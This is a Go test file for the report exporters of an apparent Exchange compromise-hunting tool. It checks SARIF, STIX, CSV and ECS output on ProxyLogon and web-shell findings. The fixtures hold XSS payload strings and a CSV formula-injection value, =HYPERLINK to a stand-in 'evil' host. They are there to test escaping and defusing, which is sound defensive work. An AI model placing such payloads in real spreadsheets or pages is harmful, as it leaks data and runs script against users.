package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/exhunt/exhunt/internal/finding"
	"github.com/google/go-cmp/cmp"
)

func write(t *testing.T, f Format, hosts []Host) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := Write(&b, f, hosts, Options{KB: kb(t), Now: time.Date(2026, 11, 26, 0, 0, 0, 0, time.UTC)}); err != nil {
		t.Fatalf("Write(%s): %v", f, err)
	}
	return b.Bytes()
}

// TestSARIFSchema validates the export against the official OASIS SARIF
// 2.1.0 schema (testdata/sarif-schema-2.1.0.json, from the go-sarif v3
// module source), and proves the validator catches a broken document.
func TestSARIFSchema(t *testing.T) {
	schema, err := os.ReadFile("testdata/sarif-schema-2.1.0.json")
	if err != nil {
		t.Fatal(err)
	}
	out := write(t, FormatSARIF, fleet(t))
	errs, err := validateSchema(schema, out)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range errs {
		t.Errorf("SARIF schema: %s", e)
	}
	broken := bytes.Replace(out, []byte(`"level": "error"`), []byte(`"level": "fatal"`), 1)
	broken = bytes.Replace(broken, []byte(`"startLine": 1042`), []byte(`"startLine": 0`), 1)
	errs, _ = validateSchema(schema, broken)
	if len(errs) < 2 {
		t.Errorf("validator missed a bad level and a zero startLine: %v", errs)
	}
}

func TestSARIFContent(t *testing.T) {
	var log struct {
		Version string
		Runs    []struct {
			Tool struct {
				Driver struct {
					Name  string
					Rules []struct{ ID string }
				}
			}
			Results []struct {
				RuleID    string
				RuleIndex int
				Level     string
				Locations []struct {
					PhysicalLocation struct {
						ArtifactLocation struct{ URI, URIBaseID string }
						Region           *struct{ StartLine int64 }
					}
				}
				Properties map[string]any
			}
			Properties map[string]string
		}
	}
	if err := json.Unmarshal(write(t, FormatSARIF, fleet(t)), &log); err != nil {
		t.Fatal(err)
	}
	if log.Version != "2.1.0" || len(log.Runs) != 3 {
		t.Fatalf("version %q, %d runs; want 2.1.0 and one run per host", log.Version, len(log.Runs))
	}
	run := log.Runs[0]
	if run.Properties["host"] != "EX01" || run.Properties["verdict"] != "compromised" || run.Tool.Driver.Name != "exhunt" {
		t.Errorf("run 0 properties = %v", run.Properties)
	}
	type loc struct {
		Rule, Level, URI string
		Line             int64
	}
	var got []loc
	for _, r := range run.Results {
		if run.Tool.Driver.Rules[r.RuleIndex].ID != r.RuleID {
			t.Errorf("result %s points at rule %d", r.RuleID, r.RuleIndex)
		}
		l := loc{Rule: r.RuleID, Level: r.Level}
		if len(r.Locations) > 0 {
			l.URI = r.Locations[0].PhysicalLocation.ArtifactLocation.URI
			if reg := r.Locations[0].PhysicalLocation.Region; reg != nil {
				l.Line = reg.StartLine
			}
		}
		got = append(got, l)
	}
	want := []loc{
		{"proxylogon-ssrf-cookie", "error", "W3SVC1/u_ex210303.log", 1042},
		{"proxylogon-oab-write", "error", "ECP/Server/ECPServer2021030301-1.LOG", 77},
		{"webshell-china-chopper", "error", "inetpub/wwwroot/aspnet_client/%22%3E%3Cimg%20src=x%20onerror=alert%28%22xss-file%22%29%3E.aspx", 0},
		{"lsass-dump-procdump", "error", "evtx/Microsoft-Windows-Sysmon%254Operational.evtx", 0}, // record id goes to properties
		{"iis-scanner", "note", "W3SVC1/u_ex210301.log", 3},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("EX01 results (-want +got):\n%s", diff)
	}
	if rec := run.Results[3].Properties["record"]; rec != float64(5512) {
		t.Errorf("EVTX record id property = %v", rec)
	}
}

func TestSTIX(t *testing.T) {
	var b struct {
		Type    string
		ID      string
		Objects []map[string]any
	}
	if err := json.Unmarshal(write(t, FormatSTIX, fleet(t)), &b); err != nil {
		t.Fatal(err)
	}
	idRE := regexp.MustCompile(`^[a-z0-9-]+--[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$`)
	if b.Type != "bundle" || !idRE.MatchString(b.ID) {
		t.Fatalf("bundle type %q id %q", b.Type, b.ID)
	}
	byID := map[string]map[string]any{}
	count := map[string]int{}
	var patterns []string
	for _, o := range b.Objects {
		id, _ := o["id"].(string)
		if !idRE.MatchString(id) || !strings.HasPrefix(id, o["type"].(string)+"--") {
			t.Errorf("bad id %q for type %v", id, o["type"])
		}
		if o["spec_version"] != "2.1" {
			t.Errorf("%s: spec_version %v", id, o["spec_version"])
		}
		byID[id] = o
		count[o["type"].(string)]++
		if p, ok := o["pattern"].(string); ok {
			patterns = append(patterns, p)
			if o["pattern_type"] != "stix" || o["valid_from"] == nil {
				t.Errorf("indicator %s lacks pattern_type/valid_from", id)
			}
		}
	}
	slices.Sort(patterns)
	wantPatterns := []string{
		`[file:hashes.'SHA-256' = 'b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0']`,
		`[file:name = '"><img src=x onerror=alert("xss-file")>.aspx']`,
		`[ipv4-addr:value = '203.0.113.7']`,
		`[network-traffic:extensions.'http-request-ext'.request_header.'User-Agent' = 'Mozilla/5.0 "onerror=alert(1) <img src=x onerror=alert("xss-ua")>']`,
	}
	if diff := cmp.Diff(wantPatterns, patterns); diff != "" {
		t.Errorf("indicator patterns (-want +got):\n%s\n(the informational scanner IP must not become an indicator)", diff)
	}
	// Sightings: IP and UA on EX01 and EX02, hash and name on EX01 only.
	if count["identity"] != 3 || count["sighting"] != 6 || count["observed-data"] != 4 {
		t.Errorf("object counts = %v; want 3 identities, 6 sightings, 4 observed-data", count)
	}
	for _, o := range b.Objects {
		if o["type"] != "sighting" {
			continue
		}
		if ind := byID[o["sighting_of_ref"].(string)]; ind == nil || ind["type"] != "indicator" {
			t.Errorf("sighting_of_ref %v does not name an indicator", o["sighting_of_ref"])
		}
		for _, w := range o["where_sighted_refs"].([]any) {
			if byID[w.(string)]["type"] != "identity" {
				t.Errorf("where_sighted_refs %v is not an identity", w)
			}
		}
		for _, od := range asSlice(o["observed_data_refs"]) {
			refs := byID[od.(string)]["object_refs"].([]any)
			if len(refs) != 1 || byID[refs[0].(string)] == nil {
				t.Errorf("observed-data %v refers to unknown objects %v", od, refs)
			}
		}
	}
}

func TestStixQuote(t *testing.T) {
	if got := stixQuote(`a'b\c`); got != `'a\'b\\c'` {
		t.Errorf("stixQuote = %s", got)
	}
}

func TestCSV(t *testing.T) {
	hosts := fleet(t)
	hosts[1].Result.Findings[0].Evidence = `=HYPERLINK("http://evil/?"&A1,"x")`
	hosts[1].Result.Findings[0].Details["user_agent"] = "@SUM(1+1)"
	rows, err := csv.NewReader(bytes.NewReader(write(t, FormatCSV, hosts))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+6 || !slices.Equal(rows[0], csvHeader) {
		t.Fatalf("%d rows, header %v; want header + 6 findings", len(rows), rows[0])
	}
	ex01 := rows[1]
	if ex01[0] != "EX01" || ex01[4] != "proxylogon-ssrf-cookie" || ex01[10] != "W3SVC1/u_ex210303.log" || ex01[11] != "1042" || ex01[12] != "203.0.113.7" {
		t.Errorf("first row = %q", ex01)
	}
	ex02 := rows[6]
	if ex02[16] != `'=HYPERLINK("http://evil/?"&A1,"x")` || ex02[13] != "'@SUM(1+1)" {
		t.Errorf("formula cells not defused: evidence %q, user agent %q", ex02[16], ex02[13])
	}
}

func TestECS(t *testing.T) {
	lines := strings.Split(strings.TrimSpace(string(write(t, FormatJSONL, fleet(t)))), "\n")
	if len(lines) != 6 {
		t.Fatalf("%d lines, want one per finding (6)", len(lines))
	}
	var d map[string]any
	if err := json.Unmarshal([]byte(lines[0]), &d); err != nil {
		t.Fatal(err)
	}
	get := func(path string) any {
		var cur any = d
		for _, p := range strings.Split(path, ".") {
			m, ok := cur.(map[string]any)
			if !ok {
				return nil
			}
			cur = m[p]
		}
		return cur
	}
	for path, want := range map[string]any{
		"@timestamp": "2021-03-03T02:11:05Z", "host.name": "EX01", "source.ip": "203.0.113.7",
		"event.kind": "alert", "event.severity": float64(75), "event.outcome": "unknown", "rule.id": "proxylogon-ssrf-cookie",
		"log.file.path": "W3SVC1/u_ex210303.log", "ecs.version": ecsVersion, "exhunt.verdict": "compromised",
		"url.original": `/owa/auth/x.js?<script>alert("xss-url")</script>`,
	} {
		if got := get(path); !cmp.Equal(got, want) {
			t.Errorf("%s = %v, want %v", path, got, want)
		}
	}
	if v := get("vulnerability.id"); !cmp.Equal(v, []any{"CVE-2021-26855"}) {
		t.Errorf("vulnerability.id = %v", v)
	}
	d = nil
	json.Unmarshal([]byte(lines[2]), &d) // the web shell
	if get("file.hash.sha256") != "b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0" || get("source") != nil {
		t.Errorf("web shell line: file %v source %v", get("file"), get("source"))
	}
}

func TestParseFormat(t *testing.T) {
	for _, f := range Formats() {
		if got, err := ParseFormat(strings.ToUpper(string(f))); err != nil || got != f {
			t.Errorf("ParseFormat(%s) = %v, %v", f, got, err)
		}
	}
	if _, err := ParseFormat("xml"); err == nil || !strings.Contains(err.Error(), "sarif") {
		t.Errorf("ParseFormat(xml) err = %v", err)
	}
}

// TestEmptyExports: a host without findings gives valid, empty output.
func TestEmptyExports(t *testing.T) {
	hosts := []Host{{Result: finding.HostResult{Host: "EX09", Verdict: finding.NoEvidence}}}
	for _, f := range Formats() {
		out := write(t, f, hosts)
		if f == FormatSARIF || f == FormatSTIX {
			if !json.Valid(out) {
				t.Errorf("%s: invalid JSON for an empty host", f)
			}
		}
	}
}
